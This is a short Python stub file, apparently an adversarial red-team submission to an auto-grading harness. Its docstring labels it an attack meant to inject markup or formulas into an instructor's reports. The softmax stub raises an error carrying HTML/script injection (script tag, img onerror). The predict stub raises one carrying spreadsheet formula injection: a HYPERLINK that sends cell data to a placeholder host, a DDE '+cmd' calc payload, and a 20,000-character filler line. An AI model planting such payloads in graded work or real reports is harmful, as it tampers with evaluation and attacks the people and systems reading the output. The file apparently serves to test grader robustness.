"""Stubs whose messages carry HTML and script (<script>, <img onerror>, </pre>, -->), spreadsheet
formulas (=HYPERLINK(...), +cmd, @SUM) and a 20 000-character line, aimed at the class report and gradebook.
honest: 0
attack: inject markup or formulas into the instructor's reports
questions: ep01,ep03
"""

import numpy as np


def softmax(z):
    raise ValueError('</pre></td><script>document.title="RT-FORGED"</script><img src=x onerror=alert(1)>-->')


# corpus: include stubs log_softmax


def predict(W, b, X):
    raise ValueError('=HYPERLINK("http://example.invalid/?"&A1,"RT-FORGED") +cmd|"/c calc"!A0 @SUM(1) '
                     + "x" * 20000)


# corpus: include stubs cross_entropy..train
